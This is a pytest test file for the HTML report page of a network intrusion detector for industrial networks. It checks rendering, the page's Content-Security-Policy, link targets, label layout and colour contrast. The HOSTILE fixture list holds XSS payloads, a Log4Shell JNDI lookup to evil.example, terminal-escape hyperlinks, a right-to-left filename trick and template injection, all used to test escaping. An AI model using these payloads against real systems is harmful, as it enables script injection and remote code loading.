"""The report page: what it shows, that nothing overlaps, and that log strings can do nothing in it."""

from __future__ import annotations

import base64
import hashlib
import re
from dataclasses import replace
from html.parser import HTMLParser
from itertools import combinations
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detector.alerts.model import Alert, Decision, Incident, Step
from detector.backtest import report
from detector.backtest.report import Timeline, View, chart, graph, one_in, ordered_zones, render, visible
from detector.correlate.entities import RankedHost

HOUR_US = 3_600_000_000
START_US = 1_741_478_400_000_000  # 2025-03-09T00:00:00Z
LEVELS = (4.0, 3.5, 3.0, 2.0, 1.0)
ZONES = dict(zip(("office", "industrial_dmz", "site_operations", "supervision", "control"), LEVELS, strict=True))
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</title></svg><script>alert(2)</script>",
    "</style><style>*{display:none}</style>",
    "${jndi:ldap://evil.example/a}",
    "{{ 7 * 191 }}{% raw %}",
    "\x1b[2J\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "pay\u202egpj.exe\u2066\u200f",
    "zero\u200bwidth\ufeff\x00\x85\u2028",
    "lone \ud800 surrogate",
    "[bold red]markup[/bold red]",
    "javascript:alert(1)",
    "-->]]><!--",
]


def step(hop: int, src: str, dst: str, zones: tuple[str, str], service: str = "rdp") -> Step:
    return Step(
        ts=f"2025-03-14T{hop:02d}:12:44.120000Z",
        src=src,
        dst=dst,
        service=service,
        services=(service,),
        operations=("DOWNLOAD_BLOCK",),
        techniques=("T0843", "T0886"),
        p_value=2e-6,
        src_zone=zones[0],
        dst_zone=zones[1],
        users=("svc-print",),
        reasons=(f"first use of {service} from {src} to {dst}", "a reason that is unfolded"),
        alert_ids=("a1",),
        evidence=("conn.log:17",),
    )


PATH = (
    step(1, "10.10.4.23", "10.10.8.40", ("office", "office"), "smb"),
    step(2, "10.10.8.40", "10.50.0.14", ("office", "industrial_dmz")),
    step(3, "10.50.0.14", "10.60.1.23", ("industrial_dmz", "site_operations")),
    step(4, "10.60.1.23", "10.61.2.10", ("site_operations", "supervision"), "ssh"),
    step(5, "10.61.2.10", "10.61.1.5", ("supervision", "control"), "s7comm"),
    step(6, "10.61.2.10", "10.61.1.6", ("supervision", "control"), "s7comm"),
)


def incident(path: tuple[Step, ...] = PATH, **changes: object) -> Incident:
    made = Incident(
        incident_id="k3vjxq7",
        first_ts=path[0].ts,
        last_ts=path[-1].ts,
        score=10.4815,
        p_value=3.3e-11,
        severity="critical",
        hosts=tuple(dict.fromkeys(host for hop in path for host in (hop.src, hop.dst))),
        path=path,
        techniques=("T0843",),
        summary="unlikely moves in time order",
    )
    return replace(made, **changes)


def alert(hop: Step = PATH[0], **changes: object) -> Alert:
    made = Alert(
        alert_id="a1",
        ts=hop.ts,
        src=hop.src,
        dst=hop.dst,
        service=hop.service,
        operation=hop.operations[0],
        kind="operation",
        score=5.7,
        p_value=hop.p_value,
        severity="high",
        techniques=hop.techniques,
        reasons=hop.reasons,
        incident_id="k3vjxq7",
        evidence=hop.evidence,
        src_zone=hop.src_zone,
        dst_zone=hop.dst_zone,
        user="svc-print",
    )
    return replace(made, **changes)


HOST = RankedHost(
    host="10.60.1.23",
    zone="site_operations",
    score=24.66,
    evidence=8.22,
    importance=3,
    why="Purdue level 3: stations of the plant",
    findings=19,
    alerts=6,
    incident_ids=("k3vjxq7", "not-shown"),
    techniques=("T0843", "T1021.006"),
    first_ts="2025-03-14T01:12:44.120000Z",
    last_ts="2025-03-14T06:12:44.120000Z",
    reasons=("first use of winrm from 10.50.0.14 to 10.60.1.23", "another reason"),
)


def summary(word: str = "plain") -> dict:
    edge = {"src": word, "dst": word, "service": word, "src_zone": word, "dst_zone": word}
    return {
        "version": "0.1.0",
        "input": {"paths": [word], "files": 2, "skipped": [{"path": word, "reason": word}]},
        "rows": {"in": 1000, "scored": 900, "rejected": 40, "duplicate": 30, "late": 20, "filtered": 10},
        "paired": 5,
        "taught": 450,
        "rejected_reasons": {word: 40},
        "filtered_reasons": {f"conn: {word}": 10},
        "notes": {word: 3},
        "time": {"first": "2025-03-09T00:00:00.0Z", "last": "2025-03-15T23:59:59.0Z", "days": 7.0},
        "seconds": 1.5,
        "rows_per_second": 667.0,
        "alerts": {"count": 1, "per_day": 0.14, "budget_per_day": 25.0, "by_severity": {"high": 1}},
        "trust": {
            "verdicts": {"verified": 700, "unverified": 99, "denied": 1, "learning": 100},
            "share": 0.875,
            "failed": {"device": 9, "user": 9, "service": 90, "path": 1},
        },
        "incidents": {"count": 1},
        "new_edges": {
            "count": 1,
            "top": [edge | {"ts": "2025-03-14T01:00:00.0Z", "score": 5.0, "p_value": 1e-5}],
        },
        "labels": {
            "campaigns": [
                {
                    "campaign": word,
                    "found": True,
                    "first_alert": "2025-03-14T01:12:44.0Z",
                    "hops": 6,
                    "hops_found": 5,
                    "hops_before_first_alert": 0,
                    "minutes_to_detect": 12.5,
                }
            ],
            "campaigns_found": 1,
            "campaigns_total": 1,
            "hops_found": 5,
            "hops_total": 6,
            "true_alerts": 5,
            "false_alerts": 2,
            "false_alerts_per_day": 0.3,
        },
        "settings": {"alerts_per_day": 25.0, word: word, "columns": None},
    }


TIMELINE = Timeline(START_US, HOUR_US, [900 + hour % 24 for hour in range(168)], [1] * 168, [0] * 120 + [2] * 48)


def view(**changes: object) -> View:
    return replace(View(summary(), [alert()], [incident()], TIMELINE, dict(ZONES)), **changes)


def hostile_view(word: str) -> View:
    bad = Step(
        "2025-03-14T01:12:44.0Z",
        src=word,
        dst=word + "2",
        service=word,
        services=(word, word + "2"),
        operations=(word,),
        techniques=(word,),
        p_value=1e-6,
        src_zone=word,
        dst_zone=word + "2",
        users=(word,),
        reasons=(word, word),
        alert_ids=(word,),
        evidence=(word,),
    )
    ill = incident((bad,), incident_id=word, summary=word, severity=word, techniques=(word,))
    told = {"title": word, "summary": word, "next_steps": (word,)}
    sign = alert(bad, operation=word, user=word, kind=word, severity=word, incident_id=word, **told)
    return View(summary(word), [sign], [ill], TIMELINE, {word: 4.0, "x": None})


# --- reading the page back ---


class Page(HTMLParser):
    """Tags, attributes and text of a page; complains about tags that do not match."""

    VOID = frozenset({"meta", "br", "wbr", "input"})

    def __init__(self, html: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str, str]] = set()
        self.text = ""
        self.feed(html)
        self.close()
        assert not self.open

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {(tag, name, value or "") for name, value in attrs}
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {(tag, name, value or "") for name, value in attrs}

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.text += data


LINKS = r"#([a-z]+|(hop-\d+|alert|host|incident)-\d+|(zone|host|incident)=[\w%.~&=-]+)"
TAGS = Page(render(view())).tags
ATTRIBUTE_NAMES = {(tag, name) for tag, name, _ in Page(render(view())).attributes}


@pytest.mark.parametrize("word", HOSTILE)
def test_hostile_strings_are_only_text(word):
    page = Page(html := render(hostile_view(word)))
    assert page.tags <= TAGS
    assert {(tag, name) for tag, name, _ in page.attributes} <= ATTRIBUTE_NAMES
    assert visible(word) in page.text
    assert html.count("<script") == 1
    assert "1337" not in html  # 7 * 191: no template is run twice


@pytest.mark.parametrize("word", HOSTILE)
def test_nothing_obeyed_is_left_in_the_page(word):
    html = render(hostile_view(word))
    assert {char for char in html if not char.isprintable()} <= {"\n"}
    html.encode("utf-8")


@settings(max_examples=30)  # each renders the page
@given(st.text(max_size=40))
def test_any_text_leaves_the_structure_alone(word):
    page = Page(render(hostile_view(word)))
    assert page.tags <= TAGS
    assert {(tag, name) for tag, name, _ in page.attributes} <= ATTRIBUTE_NAMES


def test_the_page_needs_nothing_from_outside():
    html = render(view())
    assert "http:" not in html
    assert "https:" not in html
    assert "url(" not in html
    assert "@import" not in html
    page = Page(html)
    links = {value for _, name, value in page.attributes if name in {"href", "src", "xlink:href", "action"}}
    assert links
    assert all(re.fullmatch(LINKS, link) for link in links)
    assert not page.tags & {"link", "img", "iframe", "object", "embed", "form", "base"}


def test_the_policy_lets_the_page_run_its_own_script_and_no_other():
    html = render(view())
    policy = next(value for _, name, value in Page(html).attributes if name == "content" and "default-src" in value)
    script = html.split("<script>")[1].split("</script>")[0]
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert policy == (
        "default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'; "
        f"script-src 'sha256-{digest}'"
    )
    assert not re.search(
        r"innerHTML|outerHTML|insertAdjacent|document\.write|eval\(|Function\(|fetch\(|setTimeout", script
    )
    assert not [name for _, name, _ in Page(html).attributes if name.startswith("on")]


def test_links_inside_the_page_lead_somewhere():
    attributes = Page(render(view(hosts=[HOST]))).attributes
    ids = {value for _, name, value in attributes if name == "id"}
    assert {value[1:] for _, name, value in attributes if name == "href" and "=" not in value} <= ids
    assert {"alert-1", "host-1", "incident-1", "hop-1-6"} <= ids


def test_the_same_view_gives_the_same_page():
    assert render(view()) == render(view())
    slow = summary() | {"seconds": 99.0, "rows_per_second": 1}
    assert render(view(summary=slow)) == render(view()), "nor does it say how fast the run was"


# --- what it says ---


def test_the_page_shows_every_hop_with_its_reasons():
    text = Page(render(view())).text
    for hop in PATH:
        assert hop.src in text
        assert hop.dst in text
        assert hop.reasons[0] in text
    assert "T0843 Program Download" in text
    assert "1 in 500,000" in text
    assert "a reason that is unfolded" in text


def test_an_alert_shows_what_an_analyst_asks_next_and_what_was_decided_comes_last():
    shown = alert(title="First use", summary="Would not alert if.", next_steps=("Ask the owner.",))
    decision = Decision("d7", "suppress", "j.doe", "monthly backup", None)
    known = alert(alert_id="a2", title="Known use", score=99.0, status="suppressed", decision=decision)
    text = Page(render(view(alerts=[known, shown]))).text
    for words in ("Would not alert if.", "Ask the owner.", "1 are suppressed or learned by decision", "monthly backup"):
        assert words in text
    assert text.index("First use") < text.index("Known use")


def test_rows_labels_settings_and_skipped_files_are_accounted_for():
    text = Page(render(view(summary=summary("some-word")))).text
    for words in ("Rejected because", "conn: some-word", "Skipped file", "5 of 6", "alerts_per_day", "1,000"):
        assert words in text
    without = summary()
    del without["labels"]
    assert "Against the labels" not in render(view(summary=without))


def test_an_empty_result_says_what_to_try():
    empty = summary()
    empty["incidents"]["count"] = empty["alerts"]["count"] = 0
    empty["new_edges"] = {"count": 0, "top": []}
    text = Page(render(view(summary=empty, alerts=[], incidents=[]))).text
    assert "No incident" in text
    for advice in ("longer history", "--train-until", "--alerts-per-day"):
        assert advice in text


def test_no_rows_at_all_is_a_page_too():
    nothing = summary()
    nothing["time"] = {"first": None, "last": None, "days": 0.0}
    nothing["rows"] = dict.fromkeys(nothing["rows"], 0)
    html = render(View(nothing, [], [], Timeline(0, 60_000_000, [0], [0], [0]), {}))
    assert "No rows were read" in html
    assert 'aria-label="Time line"' not in html


def test_long_lists_are_cut_and_say_so(monkeypatch):
    monkeypatch.setattr(report, "MAX_ALERTS", 100)
    many = [alert(alert_id=f"a{i}", score=float(i)) for i in range(130)]
    long_path = tuple(step(i % 24, "10.0.0.1", f"10.0.1.{i}", ("office", "office")) for i in range(30))
    text = Page(render(view(alerts=many, incidents=[incident(long_path)] * 60))).text
    assert "The 100 strongest of 130" in text
    assert "score 129.00" in text
    assert "score 29.00" not in text
    assert "10 weaker incidents" in text
    assert "first 24 hops; 6 more" in text


# --- the drawing ---

Box = tuple[float, float, float, float]


def boxes(drawn: report.Graph) -> list[Box]:
    """Left, top, right and bottom of all labels, at the widest a font may make them."""
    hosts = [(n.x - n.width / 2, n.y - 14, n.x + n.width / 2, n.y + 14) for n in drawn.nodes]
    marks = [(a.x - 10, a.badge_y - 10, a.x + 10, a.badge_y + 10) for a in drawn.arrows]
    words = [
        (a.x + 15, a.badge_y - 11, a.x + 15 + max(a.text_width, 6.8 * len(a.technique)), a.badge_y + 13)
        for a in drawn.arrows
    ]
    return hosts + marks + words


def apart(one: Box, other: Box) -> bool:
    return one[2] <= other[0] or other[2] <= one[0] or one[3] <= other[1] or other[3] <= one[1]


hosts = st.integers(0, 9).map(lambda i: (f"host-with-a-long-name-{i}", list(ZONES)[i % 5]))
moves = st.tuples(hosts, hosts).filter(lambda pair: pair[0] != pair[1])


@given(st.lists(moves, min_size=1, max_size=12))
def test_labels_never_overlap_and_stay_inside(pairs):
    path = tuple(step(i, a[0], b[0], (a[1], b[1]), "a-service-with-a-long-name") for i, (a, b) in enumerate(pairs))
    drawn = graph(incident(path), ZONES)
    placed = boxes(drawn)
    assert all(apart(one, other) for one, other in combinations(placed, 2))
    assert all(x1 >= 0 and y1 >= 0 and x2 <= drawn.width and y2 <= drawn.height for x1, y1, x2, y2 in placed)
    rails = [(n.x, n.y, n.rail) for n in drawn.nodes]
    for left, y, right in rails:  # no rail runs through another host
        assert all(n.y != y or not left < n.x <= right for n in drawn.nodes)
    for arrow in drawn.arrows:  # no arrow runs through a host that is no end of it
        ends = {arrow.step.src, arrow.step.dst}
        low, high = sorted((arrow.y1, arrow.y2))
        assert not [n for n in drawn.nodes if n.x == arrow.x and low < n.y < high and n.host not in ends]


def test_hosts_lie_in_the_band_of_their_zone_from_office_to_controllers():
    drawn = graph(incident(), ZONES)
    assert [band.zone for band in drawn.bands] == list(ZONES)
    at = {band.zone: (band.y, band.y + band.height) for band in drawn.bands}
    assert all(at[node.zone][0] < node.y < at[node.zone][1] for node in drawn.nodes)
    assert [arrow.number for arrow in drawn.arrows] == [1, 2, 3, 4, 5, 6]


def test_zones_without_levels_keep_their_order_and_undeclared_ones_lie_above():
    assert [name for name, _ in ordered_zones(["b", "a", "c"], {})] == ["b", "a", "c"]
    mixed = ordered_zones(["plc", "10.1.2.0/24", "external", "office"], {"plc": 1.0, "office": 4.0})
    assert [name for name, _ in mixed] == ["external", "10.1.2.0/24", "office", "plc"]


def test_a_hop_of_a_host_to_itself_is_drawn_without_an_arrow():
    drawn = graph(incident((step(1, "10.0.0.1", "10.0.0.1", ("office", "office")),)), ZONES)
    assert drawn.arrows[0].head == ""


def test_the_time_line_has_round_ticks_and_marks():
    drawn = chart(TIMELINE, [incident()])
    assert drawn is not None
    assert [label for _, label, _ in drawn.ticks] == [f"2025-03-{day}" for day in range(10, 16)]
    assert drawn.grid == ((0.0, "1,000"), (50.0, "500"))
    assert len(drawn.alerts) == 48
    assert drawn.alerts[0].title == "2025-03-14 00:00: 2 alerts"
    assert drawn.spans[0].x == pytest.approx(100 * (5 * 24 + 1 + 12 / 60) / 168, abs=0.1)


@pytest.mark.parametrize("minutes", [1, 7, 60, 1440, 40 * 1440, 4000 * 1440])
def test_the_time_line_works_for_minutes_and_for_years(minutes):
    drawn = chart(Timeline(START_US, minutes * 60_000_000 // 20 + 1, [3] * 20, [0] * 20, [0] * 20), [])
    assert drawn is not None
    assert len(drawn.ticks) <= 8


@pytest.mark.parametrize(
    ("p", "words"),
    [(1.0, "1 in 1"), (0.5, "1 in 2"), (8.3e-5, "1 in 12,000"), (3.3e-11, "1 in 3.0 \u00d7 10¹⁰")],
)
def test_rarity_in_words(p, words):
    assert one_in(p) == words
    assert {one_in(p) for p in (0.0, 5e-324, 1e-310)} == {"beyond measure"}
    assert [report.how_long(days) for days in (7.0, 1.0, 0.0147)] == ["7 days", "1 d", "21 min"]


# --- colours ---


def luminance(colour: str) -> float:
    colour = colour if len(colour) == 7 else "#" + "".join(2 * digit for digit in colour[1:])
    parts = [int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]
    linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


@pytest.mark.parametrize("scheme", [0, 1], ids=["light", "dark"])
def test_text_has_enough_contrast(scheme):
    block = re.findall(r":root \{(.*?)\}", render(view()), re.DOTALL)[scheme]
    colour = dict(re.findall(r"--([\w-]+): (#\w+);", block))
    grounds = ["page", "card", "it", "dmz", "ot", "control", "none"]
    pairs = [(ink, ground) for ink in ("ink", "soft") for ground in grounds]
    pairs += [(name, f"{name}-bg") for name in ("info", "low", "medium", "high", "critical")]
    pairs += [("card", "accent"), ("accent", "card")]
    for ink, ground in pairs:
        light, dark = sorted((luminance(colour[ink]), luminance(colour[ground])), reverse=True)
        assert (light + 0.05) / (dark + 0.05) >= 4.5, (ink, ground)


# --- in a browser ---

OVERLAPS = """<script>
const boxes = [...document.querySelectorAll(".path svg text")].map((text) => text.getBoundingClientRect());
let found = 0;
boxes.forEach((a, i) => boxes.slice(i + 1).forEach((b) => {
  if (a.left < b.right && b.left < a.right && a.top < b.bottom - 1 && b.top < a.bottom - 1) found += 1;
}));
const wide = document.documentElement.scrollWidth > window.innerWidth;
document.title = `${boxes.length} texts, ${found} overlaps, ${wide ? "too wide" : "fits"}`;
</script>"""


@pytest.mark.browser
def test_a_browser_shows_every_hop(browse):
    dom = browse(render(view()), "--dump-dom")
    for number, hop in enumerate(PATH, 1):
        assert f'id="hop-1-{number}"' in dom
        assert f'href="#alert-1" aria-label="Hop {number}: alert 1"' in dom
        assert hop.dst in dom


@pytest.mark.browser
@pytest.mark.parametrize("width", [1280, 400])
def test_in_a_browser_nothing_overlaps_or_sticks_out(browse, width):
    html = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", render(view()))
    dom = browse(html.replace("</body>", OVERLAPS + "</body>"), "--dump-dom", f"--window-size={width},900")
    # 6 times, numbers, services and techniques, and 7 hosts
    assert "<title>31 texts, 0 overlaps, fits</title>" in dom


@pytest.mark.browser
def test_the_policy_stops_a_script(browse):
    html = render(view()).replace("</body>", "<script>document.title = 'ran'</script></body>")
    assert "<title>ran" not in browse(html, "--dump-dom")


@pytest.mark.browser
def test_a_browser_draws_the_page(browse, tmp_path: Path):
    picture = tmp_path / "report.png"
    browse(render(view()), f"--screenshot={picture}", "--window-size=1280,1600")
    assert picture.read_bytes().startswith(b"\x89PNG")
    assert picture.stat().st_size > 50_000
